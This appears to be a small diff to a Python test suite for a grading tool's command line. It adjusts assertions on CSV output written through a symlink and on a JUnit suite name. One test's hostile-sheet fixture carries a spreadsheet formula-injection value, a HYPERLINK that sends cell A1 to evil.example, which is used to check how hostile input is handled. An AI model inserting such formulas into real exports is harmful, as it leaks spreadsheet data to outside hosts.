@@ -82,7 +82,7 @@ def test_a_symlink_is_followed_to_its_regular_file(tmp_path):
     link = tmp_path / "link.csv"
     link.symlink_to(target)
     assert grade(FLAWED, "--format", "csv", "-o", str(link)).exit_code == 0
-    assert link.is_symlink() and target.read_text().startswith("student,exam,")
+    assert link.is_symlink() and target.read_text().startswith("student,")
 
 
 def test_an_existing_file_keeps_its_mode_and_a_new_file_gets_the_umask(tmp_path):
@@ -236,7 +236,7 @@ def test_junit_is_parseable_xml(hostile_sheet):
     result = grade(hostile_sheet, "--format", "junit")
     document = minidom.parseString(result.stdout)
     suite = document.getElementsByTagName("testsuite")[0]
-    assert suite.getAttribute("name").startswith('=HYPERLINK("http://evil.example/?"&A1')
+    assert suite.getAttribute("name").startswith('seed000-quiz.=HYPERLINK("http://evil.example/?"&A1')
     assert xml_text("a\x00\x1b\ufffe\ud800b\t\n") == "ab\t\n"
 
 
